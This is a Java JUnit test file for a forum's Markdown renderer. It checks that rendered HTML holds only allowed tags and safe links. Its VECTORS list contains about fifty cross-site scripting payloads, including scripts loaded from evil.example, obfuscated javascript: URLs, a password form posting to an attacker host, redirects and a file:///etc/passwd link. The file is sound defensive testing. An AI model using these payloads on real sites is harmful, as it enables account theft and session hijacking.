package kz.bbu.tab.forum;

import static org.junit.Assert.assertEquals;
import static org.junit.Assert.assertFalse;
import static org.junit.Assert.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.Assume;
import org.junit.Test;

public class MarkdownTest {
    private static final Set<String> ELEMENTS =
            Set.of("p", "br", "strong", "em", "code", "pre", "blockquote", "ul", "ol", "li", "hr", "h3", "a");

    private static final Path SAMPLES = Path.of("../../../../shared/data");

    /** Attacks that were collected from reports about other renderers of Markdown. */
    private static final List<String> VECTORS = List.of(
            "<script>alert(1)</script>",
            "<ScRiPt src=//evil.example/x.js></sCrIpT>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=x onclick=alert(1)>x</a>",
            "<style>body{background:url(javascript:alert(1))}</style>",
            "<form action=//evil.example><input name=password></form>",
            "<base href=//evil.example>",
            "<meta http-equiv=refresh content=0;url=//evil.example>",
            "<object data=\"data:text/html;base64,PHNjcmlwdD4=\"></object>",
            "<p id=content class=site-head style=position:fixed>x</p>",
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt:alert(1))",
            "[x](  javascript:alert(1))",
            "[x](<java\tscript:alert(1)>)",
            "[x](&#106;avascript:alert(1))",
            "[x](&#x6A;&#x61;vascript&colon;alert(1))",
            "[x](\u0001javascript:alert(1))",
            "[x](vbscript:msgbox(1))",
            "[x](data:text/html,<script>alert(1)</script>)",
            "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "[x](file:///etc/passwd)",
            "[x](blob:https://example.org/1)",
            "[x](https://example.org\" onmouseover=\"alert(1))",
            "[x](https://example.org 'title\" onmouseover=\"alert(1)')",
            "![x](javascript:alert(1))",
            "![x\"onerror=\"alert(1)](https://evil.example/pixel.png)",
            "![](https://evil.example/pixel.png)",
            "[![x](javascript:alert(1))](javascript:alert(2))",
            "[![x](https://evil.example/a.png)](https://evil.example/b)",
            "<javascript:alert(1)>",
            "<data:text/html,x>",
            "[x]: javascript:alert(1)\n\n[x]",
            "```\"><script>alert(1)</script>\ncode\n```",
            "```html onmouseover=alert(1)\n<script>alert(1)</script>\n```",
            "`<script>alert(1)</script>`",
            "> > > <script>alert(1)</script>",
            "- 1. > [x](javascript:alert(1))",
            "**<img src=x onerror=alert(1)>**",
            "*[x](javascript:alert(1))*",
            "# <script>alert(1)</script>",
            "1000000000. x\" onclick=\"alert(1)",
            "<!--><script>alert(1)</script>-->",
            "<![CDATA[<script>alert(1)</script>]]>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "\u202Etpircs<\u202C");

    @Test
    public void nothingThatIsTypedRunsOrLoads() {
        assertHarmless(VECTORS);
    }

    @Test
    public void noStringThatOthersCollectedRunsOrLoads() throws IOException {
        Assume.assumeTrue(
                "the third-party samples are not in " + SAMPLES.toAbsolutePath().normalize(),
                Files.isDirectory(SAMPLES));
        List<String> typed = new ArrayList<>();
        for (JsonNode text :
                new ObjectMapper().readTree(SAMPLES.resolve("hostile/blns.json").toFile())) {
            typed.add(text.textValue());
            typed.add("[x](" + text.textValue() + ")");
            typed.add("> " + text.textValue());
        }
        assertTrue("sees the list: " + typed.size(), typed.size() > 1500);
        assertHarmless(typed);
    }

    private static void assertHarmless(List<String> typed) {
        List<String> faults = new ArrayList<>();
        for (String words : typed) {
            for (Element element : Jsoup.parseBodyFragment(html(words)).body().select("*")) {
                judge(words, element, faults);
            }
        }
        assertEquals(List.of(), faults);
    }

    private static void judge(String words, Element element, List<String> faults) {
        if (!ELEMENTS.contains(element.tagName()) && !element.tagName().equals("body")) {
            faults.add(words + ": " + element);
        }
        for (Attribute attribute : element.attributes()) {
            // A browser leaves out spaces and control characters.
            String value = attribute.getValue().replaceAll("[\\x00-\\x20]", "").toLowerCase(Locale.ROOT);
            boolean harmless = switch (element.tagName() + " " + attribute.getKey()) {
                case "a href" -> value.matches("(https?|mailto):.*") || !value.matches("[a-z][a-z0-9+.-]*:.*");
                case "a rel" -> attribute.getValue().equals("nofollow ugc noopener");
                case "ol start" -> value.matches("[0-9]+");
                default -> false;
            };
            if (!harmless) {
                faults.add(words + ": " + element);
            }
        }
    }

    @Test
    public void whatIsTypedAsHtmlStaysText() {
        assertEquals(
                "<script>alert(1)</script>",
                Jsoup.parse(html("`<script>alert(1)</script>`")).text());
        assertEquals("<b>x</b>", Jsoup.parse(html("<b>x</b>")).text());
    }

    @Test
    public void marksBecomeElements() {
        Element body = Jsoup.parseBodyFragment(
                        html("# Т\n\n**а** *б* `в`\n\n> г\n\n3. д\n\n- е\n\n[ж](https://example.org/?a=1&b=2)"))
                .body();
        assertEquals("Т", body.select("h3").text());
        assertEquals("а", body.select("strong").text());
        assertEquals("б", body.select("em").text());
        assertEquals("в", body.select("code").text());
        assertEquals("г", body.select("blockquote").text());
        assertEquals("3", body.select("ol").attr("start"));
        assertEquals("е", body.select("ul li").text());
        assertEquals("https://example.org/?a=1&b=2", body.select("a").attr("href"));
        assertEquals("nofollow ugc noopener", body.select("a").attr("rel"));
    }

    @Test
    public void aLineBreakIsOneToTheReader() {
        assertEquals(1, Jsoup.parse(html("бірінші\nекінші")).select("br").size());
    }

    @Test
    public void aPictureIsALinkToIt() {
        Element link = Jsoup.parse(html("![сурет](https://example.org/a.png)")).selectFirst("a");
        assertEquals("https://example.org/a.png", link.attr("href"));
        assertEquals("сурет", link.text());
        assertEquals(
                1,
                Jsoup.parse(html("[![с](https://a.example/1.png)](https://b.example/)"))
                        .select("a")
                        .size());
    }

    @Test
    public void deepNestingEnds() {
        String quotes = html(">".repeat(9_000) + " x");
        assertTrue(Jsoup.parse(quotes).select("blockquote").size() < 50);
        for (String nested : List.of("[", "![", "*a **a ", "- ", "`", "<", "(", "&")) {
            assertFalse(html(nested.repeat(10_000 / nested.length())).isEmpty());
        }
    }

    @Test
    public void aQuotationNamesItsAuthorAndCannotBeBrokenOutOf() {
        Post post = new Post(
                7,
                1,
                3,
                1,
                "А_б*](javascript:x)<b>",
                Instant.EPOCH,
                1,
                "",
                Instant.EPOCH,
                "бір\n\n> екі\n# үш",
                false,
                "",
                "");
        Element body = Jsoup.parseBodyFragment(html(Markdown.quote(post, "/org/a/forum/posts/7") + "жауап"))
                .body();
        assertEquals(
                "А_б*](javascript:x)<b>", body.selectFirst("blockquote strong").text());
        assertEquals("/org/a/forum/posts/7", body.selectFirst("blockquote a").attr("href"));
        assertEquals("жауап", body.children().last().text());
        assertEquals(1, body.select("blockquote blockquote").size());
    }

    @Test
    public void textIsOnOneLineWithoutMarks() {
        assertEquals("Т: а б", Markdown.text("# Т\n\n**а**\n*б*"));
    }

    private static String html(String words) {
        return Markdown.html(words).asString();
    }
}
